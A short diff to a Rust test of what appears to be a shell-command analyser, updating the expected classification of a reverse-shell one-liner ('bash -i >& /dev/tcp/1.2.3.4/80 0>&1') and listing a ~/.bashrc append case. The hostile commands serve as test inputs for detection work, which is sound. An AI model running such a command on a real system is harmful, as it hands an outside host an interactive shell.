@@ -60,7 +60,10 @@ fn redirections() {
             ),
             (
                 "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
-                &["send url:tcp://1.2.3.4/80", "open_channel program:bash"],
+                &[
+                    "send url:tcp://1.2.3.4/80",
+                    "open_channel url:tcp://1.2.3.4/80",
+                ],
             ),
             (
                 "echo x >> ~/.bashrc",
